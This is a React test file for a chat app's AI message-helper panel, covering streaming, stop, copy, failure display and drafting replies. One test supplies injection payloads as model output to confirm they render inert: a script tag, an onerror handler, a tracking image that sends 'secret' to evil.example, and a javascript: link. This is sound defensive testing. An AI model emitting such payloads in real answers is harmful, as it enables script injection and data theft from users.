import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { MemoryRouter } from 'react-router';
import { MarkdownView } from '@/features/ai-chat/components/markdown-view';
import { loadMarkdownParser } from '@/features/ai-chat/lib/markdown-processor';
import type { HelperAnswer, MessageHelper } from '@/features/social-chat/hooks/use-message-helper';
import { MessageHelperContext } from '@/features/social-chat/components/message-helper-context';
import { MessageHelperPanel } from '@/features/social-chat/components/message-helper-panel';
import { AiMarkdownSlot } from '@/lib/ai-bridge/ai-bridge';
import { roomMessages } from '@/features/social-chat/lib/message-order';
import { messageIn } from './fixtures';

const [message] = roomMessages(
  [messageIn('chat-bob', 1)],
  [],
  { id: 'u-1', username: 'alice' },
  'chat-bob',
);

function answer(change: Partial<HelperAnswer>): HelperAnswer {
  return {
    message: message!,
    action: 'explain',
    phase: 'done',
    text: '',
    model: 'gpt-4o',
    provider: 'OpenAI',
    missing: [],
    failure: '',
    ...change,
  };
}

/** The panel as a room shows it, with the AI chat's real markdown. */
function show(shown: HelperAnswer, canDraft = true) {
  const helper: MessageHelper = { answer: shown, open: vi.fn(), stop: vi.fn(), close: vi.fn() };
  const useDraft = vi.fn();
  const view = render(
    <MemoryRouter>
      <AiMarkdownSlot value={MarkdownView}>
        <MessageHelperContext value={{ helper, canDraft, useDraft }}>
          <MessageHelperPanel answer={shown} />
        </MessageHelperContext>
      </AiMarkdownSlot>
    </MemoryRouter>,
  );
  return { ...view, helper, useDraft };
}

describe('the helper panel', () => {
  beforeAll(() => loadMarkdownParser().then(() => undefined));

  it("renders markup in the model's answer inert: no script, no handler, no remote image", () => {
    const { container } = show(
      answer({
        text:
          'Sure <script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">\n\n' +
          '![pixel](https://evil.example/collect?d=secret) [click](javascript:alert(1))',
      }),
    );
    const panel = screen.getByRole('region', { name: 'Explanation' });
    expect(container.querySelector('script, [onerror], img, [src]')).toBeNull();
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
    expect(within(panel).getByTestId('blocked-image')).toHaveTextContent('evil.example');
    expect(container.innerHTML).not.toMatch(/javascript:/i);
  });

  it('while the answer streams: Stop stops it', async () => {
    const { helper } = show(answer({ phase: 'streaming', text: 'Partly' }));
    await userEvent.click(screen.getByRole('button', { name: 'Stop' }));
    expect(helper.stop).toHaveBeenCalledTimes(1);
    expect(screen.getByRole('status')).toHaveTextContent('');
  });

  it('Copy takes the draft as edited', async () => {
    const user = userEvent.setup();
    show(answer({ action: 'draft', text: 'See you at six' }));
    const draft = screen.getByRole('textbox', { name: 'Draft reply (you can edit it)' });
    await user.clear(draft);
    await user.type(draft, 'See you at seven');
    await user.click(screen.getByRole('button', { name: 'Copy' }));
    expect(await navigator.clipboard.readText()).toBe('See you at seven');
  });

  it('a failure with nothing to copy offers no Copy', () => {
    show(answer({ phase: 'failed', failure: 'Incorrect API key provided' }));
    expect(screen.getByText('Incorrect API key provided')).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Copy' })).toBeNull();
    expect(screen.getByRole('button', { name: 'Close' })).toBeInTheDocument();
  });

  it('a stopped answer keeps what arrived and says so', () => {
    show(answer({ phase: 'stopped', text: 'Half an answer' }));
    expect(screen.getByText('Half an answer')).toBeInTheDocument();
    expect(screen.getByRole('status')).toHaveTextContent('Stopped. What arrived is kept.');
    expect(screen.queryByRole('button', { name: 'Stop' })).toBeNull();
  });

  it('a draft is offered for the composer only where a reply can be written', async () => {
    const draft = answer({ action: 'draft', text: 'See you at six' });
    const { useDraft, unmount } = show(draft);
    // Once, in its editor.
    expect(screen.getAllByText('See you at six')).toHaveLength(1);
    await userEvent.click(screen.getByRole('button', { name: 'Use as reply' }));
    expect(useDraft).toHaveBeenCalledWith(message, 'See you at six');
    unmount();
    show(draft, false);
    expect(screen.queryByRole('button', { name: 'Use as reply' })).toBeNull();
    expect(screen.getByText('See you at six')).toBeInTheDocument();
  });
});
